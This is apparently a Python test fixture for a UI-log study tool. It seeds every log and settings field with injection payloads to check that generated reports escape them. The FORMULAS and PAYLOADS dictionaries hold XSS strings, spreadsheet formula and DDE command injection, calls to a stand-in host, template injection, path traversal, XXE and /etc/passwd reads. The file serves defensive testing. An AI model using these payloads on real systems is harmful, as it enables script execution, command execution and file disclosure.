"""
Text that wants to be more than text, and a study in which every name is such a text.

    payload --+--> ui-log: app, screen, element, label, note, session, agent, case, value
              +--> study.toml: title, [systems], [[screens]] name
                      |
                   import, analyse  -->  result document  -->  any form of the report

Each payload runs `HIT` or asks for something of `ELSEWHERE` if a reader takes it for more than text.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path
from typing import Any, Final

from analysis.loading import load_study
from analysis.study_result import study_result
from shadow.interop.importing import import_logs
from shadow.study import create_study, open_study

__all__ = [
    "ELSEWHERE",
    "FIELDS",
    "FORMULAS",
    "HIT",
    "PAYLOADS",
    "SEEN",
    "UNSEEN",
    "groups",
    "hostile_result",
    "hostile_study",
    "marked",
    "poisoned",
]

# What a payload does if it runs, and where it asks for something.
HIT: Final = "alert(1)"
ELSEWHERE: Final = "https://e.example"

# What a spreadsheet takes for a formula or a command; each stands at the beginning of its cell.
FORMULAS: Final = {
    "formula": "=1+41",
    "formula plus": "+1+41",
    "formula minus": "-1+41",
    "formula at": "@SUM(1,41)",
    "formula after tab": "\t=1+41",
    "formula after return": "\r=1+41",
    "formula in full width": "\uff1d1+41",
    "formula out of quotes": '"=1+41',
    "formula in the next cell": '",=1+41,"',
    "formula in the next cell by semicolon": ";=1+41;",
    "formula in braces": "{=1+41}",
    "formula after apostrophe": "'=1+41",
    "dde": "=cmd|'/c calc'!A1",
    "dde plus": '+DDE("cmd";"/c calc";"x")',
    "hyperlink": f'=HYPERLINK("{ELSEWHERE}","x")',
    "webservice": f'=WEBSERVICE("{ELSEWHERE}")',
    "address": f"{ELSEWHERE}/x",
    "mail address": "mailto:a@e.example",
    "file address": "file:///etc/passwd",
    "workbook address": "external:x.xlsx#'A'!A1",
}

PAYLOADS: Final = FORMULAS | {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "event handler": f"<img src=x onerror={HIT}>",
    "picture from elsewhere": f"<img src={ELSEWHERE}/x.png>",
    "svg onload": f"<svg onload={HIT}>",
    "svg script": f"</text></svg><svg><script>{HIT}</script>",
    "end of title": f"</title><script>{HIT}</script>",
    "end of style": f"</style><script>{HIT}</script>",
    "end of script": f"</script><script>{HIT}</script>",
    "end of attribute": f'"><img src=x onerror={HIT}><a title="',
    "attribute": f'" autofocus tabindex=0 onfocus={HIT} x="',
    "attribute in single quotes": f"' autofocus tabindex=0 onfocus={HIT} x='",
    "javascript address": f"javascript:{HIT}",
    "javascript link": f"<a autofocus href=javascript:{HIT}>x</a>",
    "data address": f"<iframe src='data:text/html,<script>{HIT}</script>'>",
    "srcdoc": f"<iframe srcdoc='<script>parent.{HIT}</script>'>",
    "css": f"</style><style>@import '{ELSEWHERE}/x.css';*{{background:url({ELSEWHERE}/x)}}",
    "css value": f"red;background:url({ELSEWHERE}/x);x:expression({HIT})",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "base": f"<base href={ELSEWHERE}><link rel=stylesheet href=/x.css>",
    "template value": "{{ 7*191 }}{{ self.__init__.__globals__ }}",
    "template statement": "{% for x in range(99) %}1337{% endfor %}{# x #}",
    "format": "{0.__class__} {name} %s %(x)s ${x} {",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;&#60;script&#62;",
    "comment": f"<!--><script>{HIT}</script-->",
    "cdata": f"]]><![CDATA[<script>{HIT}</script>]]>",
    "math": f"<math><mtext><style><img src=x onerror={HIT}></style>",
    "details": f"<details open ontoggle={HIT}>",
    "plain text": f"<plaintext><script>{HIT}</script>",
    "directions": f"\u202e<script>{HIT}</script>\u2066\u200f",
    "control characters": f"<scr\x00ipt>{HIT}</script>\x1b[31m\x07\x7f",
    "line separators": f"\u2028{HIT}//\u2029\x85",
    "long word": "W" * 160,
    "typst": f'#import "x.typ" #eval("1+41") ] $x$ *b* @l <l> #link("{ELSEWHERE}")[x]',
    "typst file": '#read("/etc/passwd") #image("x.png") \\u{41} // x /* x',
    "plotly": f'<a href="javascript:{HIT}">x</a>%{{x}}<extra></extra>$\\href{{javascript:{HIT}}}{{x}}$',
    "gettext": "{n} {text} {saved} %(n)d",
    "path": "../../../../etc/passwd\\..\\..\\x",
    "sheet name": "[x]:*?/\\'A1'!A1",
    "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;_x0041_',
}  # fmt: skip

# Where a payload can stand. What a report shows of them is `SEEN`; the others name people or hold content, and nobody may see them again.
SEEN: Final = ("title", "app", "system", "screen", "pattern", "element", "label", "note")
UNSEEN: Final = ("session", "agent", "case", "value")
FIELDS: Final = (*SEEN, *UNSEEN)

# Payloads that share a study: their titles fit into the 240 characters that a report keeps of one, and a report lists each in every table.
ROOM: Final = 235
TOGETHER: Final = 5

AGENTS: Final = 5
CASES: Final = 6  # of each agent and payload: 30 in all make a row that is no anecdote
STEP_MS: Final = 2000

Row = dict[str, Any]


def marked(payload: str, field: str) -> str:
    """The payload as it stands in a field; the word after it tells the fields apart."""
    return f"{payload} in-{field}"


def groups() -> list[list[str]]:
    """All payloads, as many together as share a study."""
    made: list[list[str]] = [[]]
    for payload in PAYLOADS.values():
        if len(made[-1]) == TOGETHER or len(_title([*made[-1], payload])) > ROOM:
            made.append([])
        made[-1].append(payload)
    return made


def hostile_study(folder: Path, payloads: list[str]) -> Path:
    """A study of five agents with each payload in every text that a log or a study can bring."""
    create_study(folder)
    (folder / "study.toml").write_text(_settings(payloads), encoding="utf-8")
    log = folder.with_suffix(".jsonl")
    rows = (row for agent in range(AGENTS) for row in _session(agent, payloads))
    log.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    import_logs([log], folder)
    return folder


def hostile_result(study: Path) -> Row:
    """The result document of a study."""
    with contextlib.closing(load_study(open_study(study))) as loaded:
        return study_result(loaded)


def _title(payloads: list[str]) -> str:
    return " ".join(marked(payload, "title") for payload in payloads)


def _settings(payloads: list[str]) -> str:
    systems = [f"raw-{n} = {json.dumps(marked(payload, 'system'))}" for n, payload in enumerate(payloads)]
    screens = [
        f"[[screens]]\napp = \"raw-{n}\"\nmatch = '^/form$'\nname = {json.dumps(marked(payload, 'pattern'))}"
        for n, payload in enumerate(payloads)
    ]
    study = ["[study]", f"title = {json.dumps(_title(payloads))}", "[report]", "quote_marks = true"]
    return "\n".join([*study, "[systems]", *systems, *screens, ""])


def _session(agent: int, payloads: list[str]) -> list[Row]:
    who = {field: f"{marked(payloads[0], field)} {agent}" for field in ("session", "agent")}
    cases = [(case, n) for case in range(CASES) for n in range(len(payloads))]
    rows = [row for case, n in cases for row in _case(f"{agent}-{case}-{n}", n, payloads[n])]
    return [who | {"time": str(at * STEP_MS)} | row for at, row in enumerate(rows)]


def _case(number: str, n: int, payload: str) -> list[Row]:
    """A value is copied from one system to the other, a field is left alone, and the agent says something."""
    here = {"app": marked(payload, "app"), "screen": marked(payload, "screen")}
    there = {"app": f"raw-{n}", "screen": "/form"}
    value = {"value": f"{marked(payload, 'value')} {number}"}
    source = here | value | {"element": "source", "label": marked(payload, "label"), "role": "entry"}
    target = there | {"element": marked(payload, "element"), "role": "entry"}
    form = [target["element"], f"{target['element']} left alone"]
    rows = [
        here | {"action": "case_start"},
        here | {"action": "screen"},
        source | {"action": "focus"},
        source | {"action": "copy"},
        there | {"action": "switch"},
        there | {"action": "screen", "elements": json.dumps(form)},
        target | {"action": "click"},
        target | value | {"action": "paste"},
        target | value | {"action": "change"},
        there | {"action": "mark", "note": marked(payload, "note")},
        there | {"action": "submit"},
        there | {"action": "case_end"},
    ]
    return [row | {"case": f"{marked(payload, 'case')} {number}"} for row in rows]


# Values of a result that other parts of it are found by; no log can choose them.
FIXED: Final = {"kind", "evidence", "mode", "relation", "code", "language", "first_day", "last_day", "how", "origin"}


def poisoned(value: Any, payload: str) -> Any:
    """The same result document with the payload before every text."""
    if isinstance(value, dict):
        return {key: item if key in FIXED else poisoned(item, payload) for key, item in value.items()}
    if isinstance(value, list):
        return [poisoned(item, payload) for item in value]
    return f"{payload} {value}" if isinstance(value, str) else value
